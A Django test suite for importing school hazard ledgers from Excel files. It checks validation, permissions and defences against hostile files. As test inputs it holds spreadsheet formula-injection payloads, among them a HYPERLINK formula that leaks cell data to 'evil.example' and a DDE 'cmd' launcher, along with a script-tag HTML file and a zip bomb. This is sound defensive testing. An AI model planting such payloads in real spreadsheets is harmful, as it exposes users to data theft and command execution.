"""An existing Excel ledger into the hazard ledger: our own export imports back; all rows or
none, every bad row named with its sheet, row and column; units outside the importer's
subtree refused as unknown; a closed row only by a unit's manager; a file that is not an
.xlsx, too large or a zip bomb refused whole; formula cells kept as their text, never
evaluated; through the page and the API."""

import datetime as dt
import io
import zipfile
from typing import Any
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from safecampus.api.tests.test_api import API, ApiTestCase
from safecampus.hazards import imports, services
from safecampus.hazards.models import EventKind, Hazard, Severity, Status
from safecampus.lib import xlsx
from safecampus.worker.models import Timer

from .test_services import HazardCase

HEADER = [
    "序号",
    "单位",
    "隐患类别",
    "隐患地点",
    "隐患描述",
    "等级",
    "整改责任人",
    "整改时限",
    "临时措施",
    "整改情况",
    "验收人",
    "销号日期",
]
FUTURE = (timezone.localdate() + dt.timedelta(days=20)).isoformat()


def ledger(*rows: list[Any], header: list[str] = HEADER, title: bool = True) -> bytes:
    """A ledger as an office keeps it: a title row, a 填报 row, the header, the rows."""
    wb = Workbook()
    ws = wb.active
    ws.title = "台账"
    if title:
        ws.append(["城关小学安全隐患排查整治台账"])
        ws.append(["填报单位：城关小学    填报人：王校长"])
    ws.append(header)
    for n, row in enumerate(rows, start=1):
        ws.append([n, *row])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def row(**cells: Any) -> list[Any]:
    values = {
        "单位": "城关小学",
        "隐患类别": "消防",
        "隐患地点": "",
        "隐患描述": "灭火器过期",
        "等级": "一般",
        "整改责任人": "",
        "整改时限": FUTURE,
        "临时措施": "",
        "整改情况": "",
        "验收人": "",
        "销号日期": "",
    } | cells
    return [values[h] for h in HEADER[1:]]


def upload(data: bytes, name: str = "台账.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=xlsx.XLSX_MIME)


class ImportCase(HazardCase):
    def setUp(self) -> None:
        super().setUp()
        translation.activate("en")  # the tests read the reasons in English

    def run_import(self, data: bytes, by: Any = None, name: str = "台账.xlsx") -> Any:
        return imports.ledger_import(by=by or self.principal_a, file=io.BytesIO(data), name=name)

    def errors(self, result: Any) -> list[tuple[str, int, str]]:
        return [(e.sheet, e.row, e.column) for e in result.errors]


class RoundTripTests(ImportCase):
    def test_our_own_export_imports_back(self) -> None:
        originals = [
            services.hazard_report(
                by=self.teacher_a,
                unit=self.school_a,
                category="fire",
                description='=HYPERLINK("http://evil.example/?"&A1,"点击")',
                area=self.area_a,
                place="三楼东侧",
                interim="+临时封闭",
            ),
            services.hazard_report(
                by=self.principal_a,
                unit=self.school_a,
                category="food",
                description="留样冰箱温度不足",
                place="后门小仓库",
                severity=Severity.MAJOR,
                responsible=self.safety_a,
                deadline=dt.date.fromisoformat(FUTURE),
            ),
            services.hazard_report(
                by=self.principal_a, unit=self.school_a, category="water", description="水箱未上锁"
            ),
        ]
        services.hazard_submit_fix(by=self.safety_a, hazard=originals[2], note="已加锁")
        services.hazard_verify(by=self.principal_a, hazard=originals[2], accept=True)
        client = self.client_for(self.principal_a)
        exported = client.get(reverse("hazards:xlsx"), {"state": "all"}).content

        result = self.run_import(exported)
        self.assertEqual((result.errors, result.hazards), ([], 3))
        fields = (
            "unit_id",
            "category",
            "area_id",
            "place",
            "description",
            "severity",
            "responsible_id",
            "deadline",
            "interim",
            "status",
            "verified_by_id",
        )
        imported = Hazard.objects.exclude(pk__in=[h.pk for h in originals])
        for original in originals:
            original.refresh_from_db()
            twin = imported.get(description=original.description)
            self.assertEqual(
                [getattr(twin, f) for f in fields], [getattr(original, f) for f in fields]
            )
        closed = imported.get(status=Status.CLOSED)
        self.assertEqual(timezone.localtime(closed.closed_at).date(), timezone.localdate())
        self.assertEqual(closed.fix_note, "已加锁")
        self.assertIsNone(closed.fixed_at)  # no fix was submitted here: not in the median
        event = closed.events.get()
        self.assertEqual(event.kind, EventKind.REPORTED)
        self.assertIn("台账.xlsx", event.text)
        self.assertIn(self.principal_a.name, event.text)
        self.assertEqual(imported.get(category="fire").fix_note, "")  # the status, not a note

        # And out again: the same rows.
        again = load_workbook(io.BytesIO(client.get(reverse("hazards:xlsx")).content)).active
        first = load_workbook(io.BytesIO(exported)).active
        data = [list(r)[1:] for r in again.iter_rows(min_row=4, values_only=True)]
        before = [list(r)[1:] for r in first.iter_rows(min_row=4, values_only=True)]
        self.assertEqual(sorted(map(str, data)), sorted(map(str, before * 2)))

    def test_matching_names_dates_and_the_history(self) -> None:
        past = (timezone.localdate() - dt.timedelta(days=10)).isoformat()
        data = ledger(
            row(隐患地点="教学楼", 整改责任人="钱安全", 整改时限=past.replace("-", "/")),
            row(隐患地点="操场北侧", 隐患类别="Fire safety", 等级="重大", 整改时限=""),
            row(隐患类别="食品卫生与食堂", 整改时限=dt.date(2030, 12, 1)),  # a date cell
            row(隐患描述="旧账", 整改时限="2025年3月1日", 销号日期="2025-03-20", 验收人="周安保"),
        )
        result = self.run_import(data)
        self.assertEqual((result.errors, result.hazards), ([], 4))
        overdue, no_deadline, dated, old = Hazard.objects.order_by("pk")
        self.assertEqual((overdue.area, overdue.place), (self.area_a, ""))
        self.assertEqual(overdue.responsible, self.safety_a)
        self.assertEqual(overdue.deadline.isoformat(), past)  # a past deadline is kept
        self.assertEqual((no_deadline.area, no_deadline.place), (None, "操场北侧"))
        self.assertEqual((no_deadline.category, no_deadline.severity), ("fire", "major"))
        self.assertEqual(no_deadline.deadline, timezone.localdate() + dt.timedelta(days=30))
        self.assertEqual((dated.category, dated.deadline), ("food", dt.date(2030, 12, 1)))
        self.assertEqual((old.status, old.verified_by), (Status.CLOSED, self.officer))
        self.assertEqual(timezone.localtime(old.closed_at).date(), dt.date(2025, 3, 20))
        self.assertEqual(old.reported_at, old.closed_at)
        # Timers for a deadline ahead; none for one already passed, none for a closed one.
        keys = set(Timer.objects.values_list("key", flat=True))
        self.assertTrue(any(str(no_deadline.pk) in k for k in keys))
        self.assertFalse(any(k.endswith(f":{overdue.pk}") for k in keys))
        self.assertFalse(any(k.endswith(f":{old.pk}") for k in keys))


class AllOrNothingTests(ImportCase):
    def test_one_bad_row_applies_nothing_and_names_the_row_and_the_column(self) -> None:
        data = ledger(row(), row(), row(整改时限="下周"), row())
        result = self.run_import(data)
        self.assertEqual(self.errors(result), [("台账", 6, "整改时限")])  # title, meta, header
        self.assertIn("下周", result.errors[0].reason)
        self.assertEqual((result.hazards, Hazard.objects.count()), (0, 0))

    def test_every_bad_row_is_listed(self) -> None:
        data = ledger(
            row(隐患类别="不存在"),
            row(隐患描述=""),
            row(整改责任人="无此人"),
            row(等级="特大"),
            row(单位="不存在的学校"),
            row(验收人="周安保"),  # a verifier without a closing date
            row(销号日期="2999-01-01"),
            row(隐患地点="长" * 201),
            row(),
        )
        result = self.run_import(data)
        self.assertEqual(
            self.errors(result),
            [
                ("台账", 4, "隐患类别"),
                ("台账", 5, "隐患描述"),
                ("台账", 6, "整改责任人"),
                ("台账", 7, "等级"),
                ("台账", 8, "单位"),
                ("台账", 9, "销号日期"),
                ("台账", 10, "销号日期"),
                ("台账", 11, "隐患地点"),
            ],
        )
        self.assertEqual(Hazard.objects.count(), 0)

    def test_a_service_refusal_while_applying_rolls_everything_back(self) -> None:
        real = services.hazard_import
        calls = []

        def refuse_the_second(**kwargs: Any) -> Any:
            calls.append(1)
            if len(calls) == 2:
                from django.core.exceptions import ValidationError

                raise ValidationError({"interim": "no"})
            return real(**kwargs)

        with mock.patch.object(services, "hazard_import", refuse_the_second):
            result = self.run_import(ledger(row(), row(), row()))
        self.assertEqual(self.errors(result), [("台账", 5, "临时措施")])
        self.assertEqual(Hazard.objects.count(), 0)

    def test_headers_are_found_under_title_rows_or_in_english(self) -> None:
        english = ledger(
            ["城关小学", "fire", "Fire extinguisher out of date"],
            header=["No.", "Unit", "Category", "Description"],
            title=False,
        )
        self.assertEqual(self.run_import(english).hazards, 1)
        nothing = self.run_import(ledger(["城关小学"], header=["序号", "单位"]))
        self.assertEqual(self.errors(nothing), [("", 0, "")])
        self.assertIn("隐患描述", nothing.errors[0].reason)
        empty = self.run_import(ledger())
        self.assertFalse(empty.ok)
        self.assertEqual(Hazard.objects.count(), 1)


class WallsTests(ImportCase):
    def test_a_unit_outside_the_importers_subtree_is_unknown(self) -> None:
        for name in ("西山小学", "西山学区", "示例区教育局"):
            result = self.run_import(ledger(row(), row(单位=name)))
            self.assertEqual(self.errors(result), [("台账", 5, "单位")], name)
            self.assertIn("Unknown unit", result.errors[0].reason)
        # The duty staff of B sees nothing of A: the same answer as a unit that does not exist.
        result = self.run_import(ledger(row()), by=self.duty_b)
        self.assertEqual(self.errors(result), [("台账", 4, "单位")])
        self.assertEqual(Hazard.objects.count(), 0)

    def test_a_closed_row_only_by_a_manager_and_administrators_not_at_all(self) -> None:
        closed = ledger(row(销号日期="2026-01-05"))
        result = self.run_import(closed, by=self.teacher_a)
        self.assertEqual(self.errors(result), [("台账", 4, "单位")])
        self.assertIn("managers", result.errors[0].reason)
        self.assertEqual(self.run_import(ledger(row()), by=self.teacher_a).hazards, 1)
        self.assertEqual(self.run_import(closed, by=self.officer).hazards, 1)  # from above
        from django.core.exceptions import PermissionDenied

        with self.assertRaises(PermissionDenied):
            self.run_import(ledger(row()), by=self.sysadmin)

    def test_an_ambiguous_unit_or_person_is_a_bad_row(self) -> None:
        from safecampus.orgs.models import Membership, Role, UnitKind
        from safecampus.test import make_person, make_unit

        self.group_2.refresh_from_db()
        make_unit(self.group_2, "SA2", "城关小学", UnitKind.SCHOOL)  # same name, other group
        result = self.run_import(ledger(row()), by=self.officer)
        self.assertEqual(self.errors(result), [("台账", 4, "单位")])
        self.assertIn("2", result.errors[0].reason)
        twin = make_person("qian.2", "钱安全", "13900000099")
        Membership.objects.create(person=twin, unit=self.school_a, role=Role.STAFF)
        result = self.run_import(ledger(row(整改责任人="钱安全")))
        self.assertEqual(self.errors(result), [("台账", 4, "整改责任人")])


class HostileFileTests(ImportCase):
    def test_an_html_page_renamed_xlsx_is_refused(self) -> None:
        result = self.run_import(b"<html><body><script>alert(1)</script></body></html>")
        self.assertEqual(self.errors(result), [("", 0, "")])
        self.assertIn(".xlsx", result.errors[0].reason)
        a_zip = io.BytesIO()
        with zipfile.ZipFile(a_zip, "w") as z:
            z.writestr("readme.txt", "not a workbook")
        self.assertIn(".xlsx", self.run_import(a_zip.getvalue()).errors[0].reason)

    def test_too_large_and_zip_bombs_are_refused_before_reading(self) -> None:
        big = self.run_import(b"PK" + b"\0" * imports.MAX_BYTES)
        self.assertIn("5 MB", big.errors[0].reason)
        with mock.patch.object(imports, "MAX_UNPACKED", 10_000):
            bomb = self.run_import(ledger(*[row(隐患描述="很长" * 500) for _ in range(20)]))
        self.assertIn("unpacks", bomb.errors[0].reason)
        with mock.patch.object(imports, "MAX_ROWS", 3):
            many = self.run_import(ledger(row(), row(), row(), row()))
        self.assertEqual(self.errors(many), [("台账", 7, "")])
        self.assertEqual(Hazard.objects.count(), 0)

    def test_formula_cells_are_kept_as_text_never_evaluated(self) -> None:
        wb = Workbook()
        ws = wb.active
        ws.append(HEADER)
        ws.append([1, "城关小学", "消防", "", "=1+1", "一般", "", FUTURE, '=cmd|" /C calc"!A0'])
        ws.append([2, "城关小学", "消防", "", '=HYPERLINK("http://x","看")', "", "", "", "@SUM(1)"])
        out = io.BytesIO()
        wb.save(out)
        result = self.run_import(out.getvalue())
        self.assertEqual(result.errors, [])
        first, second = Hazard.objects.order_by("pk")
        self.assertEqual((first.description, first.interim), ("=1+1", '=cmd|" /C calc"!A0'))
        self.assertEqual(
            (second.description, second.interim), ('=HYPERLINK("http://x","看")', "@SUM(1)")
        )
        # Out again: text, never a formula.
        exported = self.client_for(self.principal_a).get(reverse("hazards:xlsx")).content
        sheet = load_workbook(io.BytesIO(exported)).active
        cells = [c for r in sheet.iter_rows(min_row=4) for c in r if c.value in ("=1+1", "@SUM(1)")]
        self.assertEqual(len(cells), 2)
        self.assertTrue(all(c.data_type == "s" and c.quotePrefix for c in cells))

    def test_a_formula_in_a_date_or_unit_cell_is_a_bad_row(self) -> None:
        wb = Workbook()
        ws = wb.active
        ws.append(HEADER)
        ws.append([1, "城关小学", "消防", "", "隐患", "一般", "", "=TODAY()+30"])
        ws.append([2, '=INDIRECT("A1")', "消防", "", "隐患", "一般", "", FUTURE])
        out = io.BytesIO()
        wb.save(out)
        result = self.run_import(out.getvalue())
        self.assertEqual(self.errors(result), [("Sheet", 2, "整改时限"), ("Sheet", 3, "单位")])


class ImportPageTests(ImportCase):
    def test_the_page_lists_every_bad_row_then_imports_a_good_file(self) -> None:
        client = self.client_for(self.principal_a)
        self.assertEqual(client.get(reverse("hazards:import")).status_code, 200)
        bad = client.post(
            reverse("hazards:import"), {"workbook": upload(ledger(row(), row(隐患类别="?")))}
        )
        self.assertContains(bad, 'data-testid="import-errors"')
        self.assertContains(bad, "隐患类别")
        self.assertEqual(Hazard.objects.count(), 0)
        html = client.post(reverse("hazards:import"), {"workbook": upload(b"<html></html>")})
        self.assertContains(html, ".xlsx")
        renamed = client.post(
            reverse("hazards:import"), {"workbook": upload(ledger(row()), name="台账.csv")}
        )
        self.assertIn("workbook", renamed.context["form"].errors)
        good = client.post(reverse("hazards:import"), {"workbook": upload(ledger(row(), row()))})
        self.assertRedirects(good, reverse("hazards:import"))
        self.assertEqual(Hazard.objects.count(), 2)
        self.assertEqual(
            self.client_for(self.sysadmin).get(reverse("hazards:import")).status_code, 403
        )


class ImportApiTests(ImportCase, ApiTestCase):
    def post(self, person: Any, data: bytes, name: str = "台账.xlsx") -> Any:
        from safecampus.orgs import services as orgs_services

        token = orgs_services.token_issue(person=person)
        return self.client.post(
            API + "/hazards/import",
            {"file": upload(data, name)},
            headers={"Authorization": f"Bearer {token}"},
        )

    def test_201_with_the_count_or_422_with_every_bad_row(self) -> None:
        ok = self.post(self.principal_a, ledger(row(), row()))
        self.assertEqual((ok.status_code, ok.json()), (201, {"imported": 2}), ok.content)
        bad = self.post(
            self.principal_a, ledger(row(), row(整改时限="2026-02-30"), row(单位="西山小学"))
        )
        body = self.assertError(bad, 422, "file")
        self.assertEqual(
            [(e["sheet"], e["row"], e["column"]) for e in body["errors"]],
            [("台账", 5, "整改时限"), ("台账", 6, "单位")],
        )
        self.assertEqual(Hazard.objects.count(), 2)
        self.assertError(self.post(self.principal_a, b"<html></html>"), 422, "file")
        self.assertError(self.post(self.sysadmin, ledger(row())), 403)
        self.assertEqual(Hazard.objects.count(), 2)
